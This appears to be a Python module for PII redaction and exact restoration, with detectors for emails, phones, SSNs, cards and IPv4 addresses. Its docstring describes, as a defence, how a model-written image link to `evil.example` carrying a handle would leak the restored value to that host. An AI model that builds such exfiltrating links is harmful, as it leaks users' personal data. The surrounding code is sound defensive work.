"""PII redaction and exact restoration (the Context Middleware SEP's examples 1 and 2).

`pii_redaction` replaces personal data in the context's text blocks with typed
handles, `[EMAIL_1]`, `[PHONE_2]`, ... and returns the handle -> value map in
`metadata.redactions`; `pii_restoration` puts the values back. Non-text blocks
(image, audio, resource, resource_link) pass through untouched, so PII inside
an embedded resource's text is *not* redacted: send it as a text block.

What is found (each detector is a candidate pattern plus a validity test, so
look-alikes stay as they are):

EMAIL   `local@domain.tld`: the local part is letters, digits and `_ % + -`, with
        single dots or apostrophes between them; the domain is dot-separated
        labels of letters, digits and inner hyphens, ending in a letters-only TLD of
        2-63 characters. Unicode letters count (`josé@exemplo.com.br`).
PHONE   Validated with `phonenumbers` (Google's libphonenumber metadata;
        `is_valid_number`, so the country code, length and number ranges must be
        real). Candidates, in standard mode:
        - international: `+` and a country code, then digit groups separated by a
          single space, dot or dash, a group possibly in parentheses:
          `+44 20 7946 0958`, `+1 (415) 555-2671`, `+49 30 123456`,
          `+44 (0)20 7946 0958`, `+442079460958`. If the whole run is not a valid
          number, trailing groups are dropped one by one until it is (so a year
          written after a number does not hide it);
        - North American: `415-555-2671`, `415.555.2671`, `415 555 2671`,
          `(415) 555-2671`, `1-415-555-2671` (checked as +1 numbers);
        - national numbers with a trunk 0 (`020 7946 0958`, `030 123456`), checked
          against `defaultRegion` and only for regions whose trunk prefix is 0.
        Date shapes (`2025-10-04`, `10/04/2025`, `04.10.2025`), versions
        (`3.11.7`), plain years and digit runs without separators are never
        standard-mode phone candidates.
SSN     US `###-##-####` valid under the SSA rules, as `stdnum.us.ssn` checks
        them: area not 000, 666 or 9xx, group not 00, serial not 0000, and not
        one of the numbers the SSA voided after they were published. A number
        the text itself labels as one ("SSN: 987-65-4321", "social security
        number 123456789", the label right before the number) is redacted even when the SSA would never issue it:
        9xx numbers are ITINs, and the label says what the writer meant.
CARD    13-19 digits, in one run or grouped by a single kind of separator
        (spaces or dashes) in the groupings cards are printed with (4-4-4-4,
        4-4-4-4-3 and other 4-groups with a shorter last group, Amex 4-6-5,
        Diners 4-6-4); the first digit is 2-6 (the major industry identifiers of
        the payment networks) and the Luhn checksum holds. So
        `4111 1111 1111 1111` is redacted and a random 16-digit order number is
        redacted only by the ~5% chance that it looks exactly like a card.
IPV4    four dot-separated decimal octets, valid for `ipaddress.IPv4Address`
        (each 0-255, no leading zeros: `999.1.1.1` and `01.2.3.4` are not
        addresses), not part of a longer dotted run, not glued to a letter
        (`v1.2.3.4`), and not right after the words version/release/build/ver.

`aggressiveness: "strict"` adds exactly two detectors:
- SSN: a bare run of exactly 9 digits (no separators, not touching other
  digits, letters, dashes or dots) that passes the SSA rules above;
- PHONE: a bare run of 10-15 digits that is a valid number either in
  `defaultRegion` or read as international with the `+` left out
  (`4155552671`, `14155552671`, `442079460958`).

Evasions. Detection reads a normalised view of the text (textutil.detection_view):
invisible characters (soft hyphen, zero-width characters, word joiner, BOM, bidi
controls) are dropped, and fullwidth forms and the digits of other scripts
(Arabic-Indic, Devanagari, fullwidth, ...) read as ASCII, so `４１５-５５５-２６７１`,
`٤١٥-٥٥٥-٢٦٧١` and `jane\u200b@example.com` are found. Every space separator
(Unicode Zs: no-break, narrow no-break, thin, ideographic, ...) reads as a space, and every dash (Pd: en dash,
non-breaking hyphen, ...) and the minus sign U+2212 as "-", in the validated path and in dense mode alike
(textutil.SPACES, textutil.DASHES), so `415\u00a0555\u00a02671` is a phone number. The handle's value is
always the original text, byte for byte (zero-width characters inside it
included), so restoration stays exact. Cyrillic or Greek letters inside an
email address need nothing: Unicode letters count already.

Overlaps are resolved deterministically: the longest match wins, then the one
that starts first, then the type order LITERAL, EMAIL, CARD, SSN, PHONE, IPV4.

Handles and the session map. A handle is `[TYPE_N]`, numbered per type in
order of first appearance (block by block, left to right). The same value of
the same type gets the same handle everywhere in one call. To keep handles
stable across the calls of a session, pass the `metadata.redactions` map a
previous call returned as the `redactions` argument: its entries are reused
for the same values and numbering continues after the highest number of each
type. The returned map always holds the entries passed in plus the new ones,
so the caller keeps only the latest map.

Escaping, for an exact round trip. Text that already has the shape of a handle,
`[` + `TYPE_N` + `]` (`TYPE` an upper-case ASCII letter followed by upper-case
letters or digits, `N` ASCII digits), would be ambiguous after redaction: a
user who typed "[EMAIL_1]" must get "[EMAIL_1]" back, not someone's address.
So every such string is itself redacted, as a handle of type LITERAL whose
value is the original text (`[EMAIL_1]` -> `[LITERAL_1]`, value "[EMAIL_1]").
Handle-shaped strings are claimed before any other detector runs, and no
detector's match can contain a bracket, so after redaction the only
handle-shaped strings in the text are the handles this call (or the passed-in
map) defined. Restoration replaces each `[HANDLE]` that is in the map by its
value in a single left-to-right pass (values are never rescanned), which gives
the input back byte for byte: repeated values, values that contain each other,
and user text that looks like a handle included. Handle-shaped strings with no
entry in the map are left as they are.

Handles in URLs stay handles. A model can write a handle into a link or an
image address (`![x](https://evil.example/?q=[EMAIL_1])`, `<mailto:[EMAIL_1]>`,
a bare `https://...` URL, an `href=`/`src=` value); restoring it there would
hand the value to whoever serves that address as soon as the host renders or
fetches it. Whether a handle is in one is read from the whitespace-free token
before it, however long, each character once (UrlTokens). So by default restoration replaces handles in text only, leaves the
ones inside URLs as they are and lists them in `metadata.keptInUrls`; with
`restoreInUrls: true` every handle is restored (the exact round trip then holds
for any input, URLs the user wrote with PII in them included).

A bounded number of validations. Asking phonenumbers or stdnum about a candidate costs 30-100 us, a thousand
times what reading a character costs, so one call asks about at most `validation_budget(characters)` distinct
candidates (8, and one more per KiB of its text); past that it fails closed: a candidate with the shape of a
phone number or an SSN is redacted unasked, and overlapping spans are merged into one handle, so a real number
is never left in the text because the budget ran out (see _phone_ok). What a call redacts depends on its input
alone, not on what earlier calls left in the caches.

Dense texts. Even within the budget, reading a candidate through the detectors costs 5-10 us of Python
(matching, judging, failing closed, resolving overlaps), so a text whose candidates come every few characters
cost 10-90 times typical text. Such a text is read in DENSE mode (_find_pii_dense): more than 30% of its
characters digits, or more than 16 + 12 per KiB candidates met on the way (then the validated path stops and
hands the text over). Dense mode reads shapes with one compiled pattern, in C: handle-shaped text (LITERAL as
everywhere), email-shaped tokens (EMAIL), and NUMBER: every run of seven or more digits with at most three
separators (space, dot, dash, parentheses) between two digits, a "+" or "(" before and a ")" after, and every
dotted quad; unvalidated, so look-alikes and the figures around numbers go too. Every span the validated path
finds lies inside one of them, so dense mode never keeps what that path redacts (the tests check it on
generated texts). A NUMBER whose value the session already has keeps its handle; a span over 64 characters is
redacted as consecutive handles. Typical text (about 15% digits, 4 candidates per KiB) never is dense.

Hand-written detection, on purpose. The libraries that find PII in free text
either load NLP models at run time (Presidio needs a spaCy model download,
which this deployment cannot do) or pull in large dependency trees for
categories we do not need (scrubadub), and none promises the exact round trip.
`phonenumbers.PhoneNumberMatcher` finds phone numbers in text but takes
seconds per 100 KB in pure Python; here it is only used to validate the few
candidates the patterns find. Validity itself comes from a library wherever
one answers the question: phonenumbers (phones), python-stdnum (SSN rules,
Luhn), ipaddress (IPv4). Emails are the exception: email-validator decides
whether an address is acceptable to sign up with (it rejects special-use
domains such as .local or .test, for instance), which is not the question
here: an address-shaped string someone wrote is redacted either way.

How the text is read. Every detector but EMAIL and the phones that start
with "+" or "(" starts at the first digit of a run of digits, so one regex
scan (_digit_run_scanner) serves them all: at each digit that starts a run it
checks what their candidates start with, then each candidate pattern in a
lookahead, and matches only where one of them does. Prose numbers (years,
amounts, dates, versions) end there in a few steps, without Python code;
validity tests run on real candidates only, and are cached by value. A run of
digit groups that may hold a card is skipped over as a whole (cards are
unbounded; looking again at each of its groups would be quadratic) and looked
inside only when a group there can start an SSN or a phone number.

In long texts (32 KB and more) the digit-run candidates are found in about half
the time with Hyperscan, a C library of automata that finds every match of many
patterns in one pass: the regex engine stops at every digit of digit-dense
prose, while Hyperscan passes over it and reports where a candidate of each
detector may start (PREFILTERS, one lookaround-free superset of each candidate
pattern), and the scan above runs at those positions only. The spans found are
the same either way (the tests compare the two); where Hyperscan has no wheel,
cannot run on the CPU, or the candidates are dense (one every few characters,
where the regex scan passes a whole run of groups in one match) the regex scan
reads the text alone.
"""

from __future__ import annotations

import bisect
import ipaddress
import itertools
import operator
import re
import threading
from collections import Counter
from functools import lru_cache, partial
from typing import NamedTuple

import phonenumbers
from stdnum.us import ssn as us_ssn

from ..limits import LimitExceeded, output_allowance
from ..limits import current as current_call
from . import MiddlewareSpec
from .textutil import DASHES, SPACES, check_context, detection_view, drop_invisible, is_text, original_offset

# -- handles ------------------------------------------------------------------------------------
HANDLE_NAME = r"[A-Z][A-Z0-9]*_[0-9]+"
HANDLE_NAME_RE = re.compile(rf"^{HANDLE_NAME}$")
HANDLE_RE = re.compile(rf"\[({HANDLE_NAME})\]")

TYPES = ("LITERAL", "EMAIL", "CARD", "SSN", "PHONE", "IPV4")  # also the tie-break order for overlaps
PRIORITY = {kind: i for i, kind in enumerate(TYPES)}

# -- candidate patterns (ASCII digits only: "\d" would also match other scripts' digits) ----------
# A candidate must not continue a longer token: these guards say what may not touch it. Every pattern starts with
# the character it must start with (a digit, "+" or "("), and the guard on the character before it comes right
# after, as a lookbehind over both: a pattern that starts with a character class lets the regex engine skip ahead
# to the next such character in C, where a leading lookaround would be tried at every position.
_NOT_AFTER_BAD = r"[\w+\-.]"
_NOT_BEFORE = r"(?![\w\-]|\.[0-9])"

EMAIL_RE = re.compile(
    r"(?<![\w%+.\-])"
    r"[\w%+\-]+(?:[.'][\w%+\-]+)*"
    r"@"
    r"(?:[^\W_](?:[^\W_]|-)*\.)+[^\W\d_]{2,63}"
    r"(?![\w\-])")
_EMAIL_LOCAL_CHARS = frozenset("%+-.'")

# Unambiguous on purpose (every group after the first starts with a separator or "("), so a long digit run cannot
# make the regex engine backtrack through every way of splitting it.
PHONE_INTL_RE = re.compile(r"\+(?<![\w+]\+)[0-9]+(?:[ .\-]?\([0-9]{1,4}\)[0-9]*|[ .\-][0-9]+){0,24}")
# North American numbers, `(1-)415-555-2671` starting with a digit (in DIGIT_RUNS) and `(415) 555-2671`.
_NANP_AREA = r"(?:\([0-9]{3}\)[ .\-]?|[0-9]{3}[ .\-])"
PHONE_NANP_PAREN_RE = re.compile(
    rf"\((?<!{_NOT_AFTER_BAD}\()[0-9]{{3}}\)[ .\-]?[0-9]{{3}}[ .\-][0-9]{{4}}{_NOT_BEFORE}")
_TRUNK0_GROUPS = r"(?:[ .\-][0-9]{2,8}){1,4}"
PHONE_TRUNK0_PAREN_RE = re.compile(rf"\((?<!{_NOT_AFTER_BAD}\()0[0-9]{{1,4}}\){_TRUNK0_GROUPS}{_NOT_BEFORE}")
_ANY_DIGIT_RE = re.compile(r"[0-9]")
DATE_SHAPE_RE = re.compile(r"^[0-9]{1,4}([./\-])[0-9]{1,2}\1[0-9]{1,4}$")
_SEPARATOR_RE = re.compile(r"[ .\-](?=[0-9(])|(?<=[0-9)])(?=\()")

# "version 1.2.3.4" written the usual ways (the word, then nothing, a space, ":" or ": "), refused in the pattern
# so that a list of versions does not reach Python; _ipv4_ok's _VERSION_WORD_RE still decides the rest.
_NOT_AFTER_VERSION_WORD = "".join(
    rf"(?<!\b{re.escape(word)}{gap}[0-9])" for word in ("version", "release", "build", "ver", "ver.")
    for gap in (("", " ") if word.endswith(".") else (" ", ":", ": ")))

# The candidates that start a run of digits, as (guard, rest), both read right after the first digit: the guard
# says what may not come before that digit besides a word character (which none allows), the rest is the pattern
# after it.
DIGIT_RUNS = {
    # Runs of digit groups with at least 13 digits (the lookahead): cards, decided in _find_card_in_run. A run of one
    # group must be a whole card (13-19 digits, the first 2-6), so order numbers never reach Python; the most
    # groups are tried first, as a `(?:[ \-][0-9]+)*` would. The 12-digit lookahead (a repeated group, costly in
    # the regex engine) comes after a test it implies: its first 12 characters are digits or separators.
    "CARD": (r"(?<![+\-.][0-9])",
             rf"(?=[0-9 \-]{{12}})(?=(?:[ \-]?[0-9]){{12}})(?:[0-9]*(?:[ \-][0-9]+)+|(?<=[2-6])[0-9]{{12,18}})"
             rf"{_NOT_BEFORE}"),
    # ###-##-#### or a bare ###-##-#### without dashes; which of them count is decided in _ssn_ok.
    "SSN": (r"(?<!-[0-9])", rf"[0-9]{{2}}(?:-[0-9]{{2}}-|[0-9]{{2}})[0-9]{{4}}{_NOT_BEFORE}"),
    # The version words are looked at only where an address can start.
    "IPV4": (rf"(?<!\.[0-9])(?=[0-9]{{0,2}}\.[0-9])(?i:{_NOT_AFTER_VERSION_WORD})",
             r"[0-9]{0,2}(?:\.[0-9]{1,3}){3}(?![\w]|\.[0-9])"),
    "NANP": (r"(?<![+\-.][0-9])",
             rf"(?:(?<=1)[ .\-]{_NANP_AREA}|[0-9]{{2}}[ .\-])[0-9]{{3}}[ .\-][0-9]{{4}}{_NOT_BEFORE}"),
    # National numbers, for trunk-0 regions.
    "TRUNK0": (r"(?<![+\-.][0-9])", rf"(?<=0)[0-9]{{1,4}}{_TRUNK0_GROUPS}{_NOT_BEFORE}"),
    "BARE": (r"(?<![+\-.][0-9])", rf"[0-9]{{9,14}}{_NOT_BEFORE}"),  # strict mode's bare phone runs
}


def _heads(names: tuple[str, ...]) -> str:
    """What comes after the first digit of every candidate of the DIGIT_RUNS `names` (SSN, IPV4 and NANP
    always among them), factored by the next character so that most digits fail it in a step or two."""
    after_digit = [r"[0-9][ .\-][0-9]",  # SSNs and NANP numbers start with 3 digits and a separator
                   r"[0-9]?\.[0-9]{1,3}\.[0-9]{1,3}\.[0-9]",  # IPv4 with a 2 or 3 digit first octet
                   r"[0-9]{7}" if "BARE" in names else r"[0-9]{7}(?![0-9])"]  # bare SSNs (and phones)
    if "TRUNK0" in names:
        after_digit.append(r"(?<=0[0-9])[0-9]{0,3}[ .\-][0-9]")
    heads = [rf"[0-9](?:{'|'.join(after_digit)})",
             r"\.[0-9]{1,3}\.[0-9]{1,3}\.[0-9]",  # IPv4 with a 1 digit first octet (not "3.11.7")
             r"(?<![+\-.]1)(?<=1)[ .\-](?:\(|[0-9]{3})"]  # NANP with a leading 1
    if "CARD" in names:  # 12 more digits, in one run of 13-19 starting with 2-6, or in groups (cheap tests first)
        heads.append(r"(?<![+\-.][0-9])(?=[0-9]*[ \-][0-9]|(?<=[2-6])[0-9]{12,18}(?![0-9]))(?=[0-9 \-]{12})"
                     r"(?:[ \-]?[0-9]){12}")
    return "|".join(heads)


# The longest candidate of the bounded DIGIT_RUNS (all but CARD) and what their guards read after it.
_LONGEST_BOUNDED_RUN = 64
_LONG_RUN = 10  # digits in a row that the scan passes over in one match (see _digit_run_scanner)


@lru_cache(maxsize=16)
def _digit_run_scanner(names: tuple[str, ...], first_tests: bool = True) -> re.Pattern:
    """One pattern for the DIGIT_RUNS `names` (SSN, IPV4 and NANP always among them): each rest in a lookahead
    with a named group, the match failing unless one of them matched, and going on over a CARD run if there is
    one.

    Digit-dense prose (dates, amounts, versions) makes the regex engine stop at every digit; one scan does that
    once for all of these detectors instead of once each, and only runs where some candidate matches reach
    Python. What their candidates start with is checked first, as one lookahead, so the short numbers of prose
    (years, amounts, "room 415,") and runs of short groups ("1 1 1") cost a step or two each. A CARD run is
    unbounded, so the scan resumes after it (as CARD's own finditer would; the lookahead at each of its groups
    would make "1 1 1 ..." quadratic) and the others look inside it apart (_digit_run_candidates). Otherwise the
    match takes the rest of the digits (none of them starts a run), and a run of _LONG_RUN digits or more is
    matched without a candidate (no group set) so the engine need not stop at each of its digits (a failed
    start at each digit costs more than the match object: order numbers and other long runs of prose).
    """
    # The first tests reject most non-candidates at once: what follows the first digit, after a dash only an
    # IPv4 address can start, and every candidate has 9 digits in a row or a separator and a digit (or "(") right
    # after its first run of digits, which the prose numbers ("2025 ", "6,400,000", "18%") do not.
    # (Every candidate passes them, so where the prefilter has already picked the positions, they are left out:
    # `first_tests` false.)
    parts = [rf"(?=[0-9 .\-])(?=(?<!-[0-9])|[0-9]{{0,2}}\.)(?=[0-9]{{0,7}}[ .\-][0-9(]|[0-9]{{8}})"
             rf"(?={_heads(names)})"] if first_tests else []  # lookaheads: no backtracking
    for name in names:
        guard, rest = DIGIT_RUNS[name]
        parts.append(rf"(?:{guard}(?=(?P<{name}>{rest}))|)")
    none = "(?!)"
    for name in reversed(names):
        none = f"(?({name})|{none})"
    parts.append(none)
    parts.append("(?(CARD)(?P=CARD)|[0-9]*)" if "CARD" in names else "[0-9]*")
    pattern = re.compile(rf"[0-9](?<!\w[0-9])(?:{''.join(parts)}|[0-9]{{{_LONG_RUN - 1},}})")
    assert pattern.groups == len(names)  # _judge_runs reads the groups by position
    return pattern


# -- the prefilter of long texts -------------------------------------------------------------------
# In digit-dense prose the regex engine stops at every digit and tests every run start against the heads above,
# about 25 ms a megabyte before any candidate reaches Python. Hyperscan (Intel's automaton-based matcher, C)
# reads a megabyte in a few milliseconds and reports where each pattern below matches, and the scan above is
# then tried at those positions only. Each pattern is a superset of what its DIGIT_RUNS entry matches, written
# without lookarounds, which Hyperscan lacks: the character before the first digit is part of the match (and
# stands for the guards, the `(?<!\w[0-9])` of every candidate included), the character after the candidate too
# where its rest ends in _NOT_BEFORE; the other guards are left to the regex. Hyperscan reports one start per
# end, the leftmost; two starts of one pattern share an end only in NANP's `1 415 555 2671` (the "1" and the
# "415"), and there the "1" is a candidate exactly when the "415" would be one (and skipped, as inside it), as
# long as the character before each reads as the regex engine reads it (_candidate_starts). So every position
# where the scan can match with a group set, and finditer would look, is reported, the spans found are the same
# as the regex scan's alone (the tests compare the two on random and adversarial texts), and only the work
# between candidates is saved.
_D = "[0-9]"
_SEP = r"[ .\-]"
_AFTER = r"(?:[^0-9A-Za-z_\-]|$)"  # _NOT_BEFORE without its ".digit" case
_AFTER_RUN_START = r"[^0-9A-Za-z_+\-.]"  # the guard (?<![+\-.][0-9]) and (?<!\w[0-9])
PREFILTERS = {
    "SSN": rf"[^0-9A-Za-z_\-]{_D}{{3}}(?:-{_D}{{2}}-|{_D}{{2}}){_D}{{4}}{_AFTER}",
    "IPV4": rf"[^0-9A-Za-z_.]{_D}{{1,3}}(?:\.{_D}{{1,3}}){{3}}(?:[^0-9A-Za-z_]|$)",
    "NANP": rf"{_AFTER_RUN_START}(?:1{_SEP}(?:\({_D}{{3}}\){_SEP}?|{_D}{{3}}{_SEP})|{_D}{{3}}{_SEP})"
            rf"{_D}{{3}}{_SEP}{_D}{{4}}{_AFTER}",
    "TRUNK0": rf"{_AFTER_RUN_START}0{_D}{{1,4}}{_SEP}{_D}{{2}}",
    "BARE": rf"{_AFTER_RUN_START}{_D}{{10,15}}{_AFTER}",
    # 13-19 digits in one run starting with 2-6, or 13 digits with single spaces or dashes between some of them
    # and at least one separator in the run: written out by where the first separator falls (after k digits).
    "CARD": rf"{_AFTER_RUN_START}(?:[2-6]{_D}{{12,18}}{_AFTER}|{_D}{{13,}}[ \-]{_D}|{_D}{{12}}[ \-]{_D}|"
            + "|".join(rf"{_D}{{{k}}}[ \-]{_D}(?:[ \-]?{_D}){{{12 - k}}}" for k in range(1, 12)) + ")",
}
# Below this many characters the regex scan costs less than the call into Hyperscan is worth (about 1 ms at
# 32 KB), and short texts never pay for compiling the patterns (0.1-0.2 s, once per process and detector set).
PREFILTER_MIN_CHARS = 32_768
# Each reported position costs a call into Python (about 1 us); where candidates come denser than one per _DENSE
# characters, beyond _DENSE_SLACK reports (runs of digit groups, "1 1 1 ...": one report per group), the regex
# scan, which passes over a run in one match, is cheaper, so the prefilter gives up as soon as it sees that.
_DENSE = 128
_DENSE_SLACK = 256


@lru_cache(maxsize=1)
def _hyperscan():
    """The hyperscan module, imported with the first long text (a server start would pay 20-30 ms for it), or
    None where it has no wheel: the regex scan alone gives the same spans, more slowly."""
    try:
        import hyperscan
    except ImportError:
        return None
    return hyperscan


@lru_cache(maxsize=8)
def _prefilter_database(names: tuple[str, ...]):
    """The compiled PREFILTERS of `names`, or None where Hyperscan cannot run (no wheel, a CPU without SSSE3)."""
    hyperscan = _hyperscan()
    if hyperscan is None:
        return None
    database = hyperscan.Database(mode=hyperscan.HS_MODE_BLOCK)
    try:
        database.compile(expressions=[PREFILTERS[name].encode() for name in names], ids=list(range(len(names))),
                         elements=len(names), flags=hyperscan.HS_FLAG_SOM_LEFTMOST)
    except hyperscan.error:
        return None
    return database


_NOT_ASCII_BEFORE_DIGIT_RE = re.compile(r"[^\x00-\x7f](?=[0-9])")
_scratch = threading.local()  # Hyperscan's scratch space serves one scan at a time: one per thread and database


def _candidate_starts(names: tuple[str, ...], text: str) -> list[int] | None:
    """Where a candidate of the DIGIT_RUNS `names` may start in `text`, in order: a superset of the positions
    where _digit_run_scanner(names) matches with a group set. None where the prefilter does not help: no
    Hyperscan, a text too short, or candidates too dense."""
    if len(text) < PREFILTER_MIN_CHARS:
        return None
    database = _prefilter_database(names)
    if database is None:
        return None
    # One byte per character, so offsets carry over. A character that is not ASCII matters to the patterns only
    # right before a digit, where it must read as the regex engine reads it: "a" if it is a word character (the
    # guards), "?" if not. (As "?" throughout, a letter glued to "1 415 555 2671" would make that "1" the leftmost
    # start of the NANP pattern, and Hyperscan reports one start per end: the "415", the real candidate's start,
    # would go unreported.) The space in front stands for the start of the text, so a match's start is its first
    # digit's offset in `text`.
    shape = b" " + text.encode("ascii", "replace")
    if not text.isascii():
        shape = bytearray(shape)
        for m in _NOT_ASCII_BEFORE_DIGIT_RE.finditer(text):
            if m.group().isalnum():  # what \w matches beyond ASCII
                shape[m.start() + 1] = 0x61
    starts: list[int] = []
    add = starts.append

    def found(_id, start, end, _flags, _context):
        add(start)
        return len(starts) > end / _DENSE + _DENSE_SLACK  # true ends the scan

    hyperscan = _hyperscan()
    scratches = _scratch.__dict__.setdefault("by_names", {})
    try:
        scratch = scratches.get(names)
        if scratch is None:
            scratch = scratches[names] = hyperscan.Scratch(database)
        database.scan(shape, match_event_handler=found, scratch=scratch)
    except hyperscan.error:  # ScanTerminated (too dense) or a failure of the library: the regex scan serves
        return None
    return sorted(set(starts))


def _scan_matches(names: tuple[str, ...], text: str):
    """The matches of _digit_run_scanner(names).finditer(text) that set a group; for a long text, from the
    scanner tried only where the prefilter says a candidate may start."""
    starts = _candidate_starts(names, text)
    if starts is None:
        for m in _digit_run_scanner(names).finditer(text):
            if m.lastindex is not None:
                yield m
        return
    match = _digit_run_scanner(names, first_tests=False).match
    resume = 0  # where finditer would go on: no match starts inside the previous one
    for start in starts:
        if start < resume:
            continue
        m = match(text, start)
        if m is None:
            continue
        resume = m.end()
        if m.lastindex is not None:
            yield m


SSN_LABEL_BEFORE_RE = re.compile(
    r"(?i:\b(?:ssn|social[ \-]security(?:[ \-](?:number|no\.?|#))?)(?![\w]))"
    r"[ \t]*[:#=]?[ \t]*(?:(?i:is|was)[ \t]+)?$")

_CARD_GROUPINGS = {(4, 6, 5), (4, 6, 4)}
# Digits as "d" and dashes as spaces: the groups of a digit run, for C-speed substring tests ("dddd" in ...)
# where a regex would stop at every digit of a long run.
_SHAPE = str.maketrans("0123456789-", "dddddddddd ")
# Where a card can start in a run of groups: a 2-6 beginning a 4-digit group or a 13-19 digit one.
_CARD_START_RE = re.compile(r"(?<![0-9])[2-6](?:[0-9]{3}|[0-9]{12,18})(?![0-9])")

_VERSION_WORD_RE = re.compile(r"(?i)\b(?:version|release|build|ver\.?)[ \t]*:?[ \t]*$")


class Found(NamedTuple):  # a tuple, so sorting compares in C
    start: int
    end: int
    kind: str


# _found((start, end, kind)) is Found(start, end, kind) built in C: a NamedTuple's own __new__ is a Python function,
# and a megabyte of text has thousands of spans.
_found = partial(tuple.__new__, Found)
_START, _END, _KIND = operator.itemgetter(0), operator.itemgetter(1), operator.itemgetter(2)
_FIRST, _SECOND = _START, _END  # of a (kind, value) key


# -- validity tests ------------------------------------------------------------------------------
@lru_cache(maxsize=8192)
def _valid_phone(candidate: str, region: str | None) -> bool:
    try:
        number = phonenumbers.parse(candidate, region)
    except phonenumbers.NumberParseException:
        return False
    return phonenumbers.is_valid_number(number)


# The validation budget. phonenumbers (parse and is_valid_number) costs 50-100 us a candidate and stdnum's SSN
# test about 30 us, where reading typical text costs 20-150 ns a character: a text made of distinct phone-shaped
# candidates (random digits in NANP, international or national groupings; every one a cache miss) cost 200-500
# times typical text of its size. So one call (a middleware call over all its text blocks, an interceptor call
# over all its strings, or find_pii on its own) may ask the libraries about at most validation_budget(characters)
# distinct candidates: BASE_VALIDATIONS, and one more per CHARS_PER_VALIDATION characters. Typical text has far
# fewer (a conversation repeats its numbers, and a value asked about once in a call is answered from the call's
# own table after that). Past the budget the call fails closed: a candidate that has the shape of a phone number
# or an SSN (it matched the candidate pattern) is redacted without asking, so no real number is ever left in the
# text because the budget ran out; what is lost is only the look-alikes that validation would have spared.
# The count is of distinct candidates the call asked about, whether or not a cache across calls answered them,
# so what a call redacts depends on its input alone, never on what earlier calls left in the caches.
BASE_VALIDATIONS = 8
CHARS_PER_VALIDATION = 1024


def validation_budget(chars: int) -> int:
    """How many distinct candidates a call over `chars` characters may have validated by the libraries."""
    return BASE_VALIDATIONS + chars // CHARS_PER_VALIDATION


class ValidationBudget:
    """What one call may still validate (`left`), the answers it already has (by candidate), and how many
    candidates it redacted unvalidated (`failed_closed`)."""

    __slots__ = ("left", "answers", "failed_closed")

    def __init__(self, chars: int):
        self.left = validation_budget(chars)
        self.answers: dict[tuple, object] = {}
        self.failed_closed = 0


_budgets = threading.local()


class budgeted:
    """`with budgeted(chars) as budget:` one ValidationBudget for everything found inside (find_pii opens its own
    when no caller did); nested, the outermost call's budget serves."""

    def __init__(self, chars: int):
        self.chars, self.outer = chars, False

    def __enter__(self) -> ValidationBudget:
        current = getattr(_budgets, "current", None)
        if current is not None:
            return current
        self.outer = True
        _budgets.current = ValidationBudget(self.chars)
        return _budgets.current

    def __exit__(self, *exc) -> None:
        if self.outer:
            _budgets.current = None


def _phone_ok(candidate: str, region: str | None) -> bool:
    """_valid_phone within the call's budget; True (fail closed) once the budget is spent. (The detectors' own
    functions, called outside any `budgeted` block as the tests do, validate without a budget.)"""
    budget = getattr(_budgets, "current", None)
    if budget is None:
        return _valid_phone(candidate, region)
    key = (candidate, region)
    answer = budget.answers.get(key)
    if answer is None:
        if budget.left <= 0:
            budget.failed_closed += 1
            return True
        budget.left -= 1
        answer = budget.answers[key] = _valid_phone(candidate, region)
    return answer


def _ssn_valid(value: str) -> bool:
    """_valid_ssn within the call's budget; True (fail closed) once the budget is spent."""
    budget = getattr(_budgets, "current", None)
    if budget is None:
        return _valid_ssn(value)
    answer = budget.answers.get(value)  # a str key: phone keys are tuples
    if answer is None:
        if budget.left <= 0:
            budget.failed_closed += 1
            return True
        budget.left -= 1
        answer = budget.answers[value] = _valid_ssn(value)
    return answer


_NON_DIGITS_RE = re.compile(r"[^0-9]+")


def _digits(text: str) -> str:
    return _NON_DIGITS_RE.sub("", text)


_MAX_PHONE_DIGITS = 17  # E.164 allows 15, plus a "(0)" trunk digit and some slack
_TOO_MANY_DIGITS_RE = re.compile(r"(?:[^0-9]*[0-9]){%d}" % (_MAX_PHONE_DIGITS + 1))


def _longest_valid_prefix(candidate: str, region: str | None, min_digits: int = 7) -> int:
    """Length of the longest prefix ending at a group boundary that is a valid phone number, or 0.

    Only the part before the 18th digit can be a number, so the candidate is cut there first: a run of thousands
    of groups ("+1 1 1 1 ...") costs one bounded look, not one digit count per group (which was quadratic).
    The answer is kept for the rest of the call (a text repeats its numbers; working it out costs ten times the
    lookup); each prefix asked about counts against the call's budget, and once that is spent the longest prefix
    still in question is taken as the number (fail closed).
    """
    budget = getattr(_budgets, "current", None)
    if budget is None:
        return _find_longest_valid_prefix(candidate, region, min_digits)
    answers = budget.answers
    key = (candidate, region, min_digits)
    answer = answers.get(key)
    if answer is None:
        answer = answers[key] = _find_longest_valid_prefix(candidate, region, min_digits)
    return answer


def _find_longest_valid_prefix(candidate: str, region: str | None, min_digits: int) -> int:
    too_many = _TOO_MANY_DIGITS_RE.match(candidate)
    head = candidate if too_many is None else candidate[:too_many.end() - 1]
    cuts = ([len(candidate)] if too_many is None else []) + [m.start() for m in _SEPARATOR_RE.finditer(head)][::-1]
    for cut in cuts:
        prefix = candidate[:cut].rstrip(" .-(")
        digits = len(_digits(prefix))
        if digits < min_digits:
            break
        if not DATE_SHAPE_RE.match(prefix) and _phone_ok(prefix, region):
            return len(prefix)
    return 0


# The Luhn checksum in C string operations: every other digit from the right doubled (its digit sum, through a
# table), then summed as bytes. stdnum.luhn says the same (the tests hold the two together) at eight times the
# cost, which a run of thousands of 4-digit groups, one candidate window each, turned into a 15x slowdown.
_LUHN_DOUBLED = str.maketrans("0123456789", "0246813579")


def _luhn_ok(digits: str) -> bool:
    both = (digits[-1::-2] + digits[-2::-2].translate(_LUHN_DOUBLED)).encode()
    return (sum(both) - 48 * len(both)) % 10 == 0


# The validity tests below are pure functions of a short string and a text repeats its values (the same address
# or card in every message of a conversation): cached like _valid_phone, they cost a dict lookup the second time.
@lru_cache(maxsize=8192)
def _valid_ipv4(candidate: str) -> bool:
    try:
        ipaddress.IPv4Address(candidate)
    except ValueError:
        return False
    return True


_valid_ssn = lru_cache(maxsize=8192)(us_ssn.is_valid)


def _ends_like_label(text: str, lo: int, hi: int, separators: str, last: str) -> bool:
    """Whether text[lo:hi] can end as a label pattern does: a character of `last`, maybe one of `separators`
    after it, spaces and tabs around. Tested in C before the label's regex, whose search tries every position of
    its window; `last` holds every character the pattern's last letters match, case-insensitive ones included."""
    tail = text[lo:hi].rstrip(" \t")
    if not tail:
        return False
    if tail[-1] in last:
        return True
    if tail[-1] in separators:
        tail = tail[:-1].rstrip(" \t")
        return tail != "" and tail[-1] in last
    return False


_VERSION_WORD_LAST = "nNeEdDrR."  # versioN releasE builD veR ver.
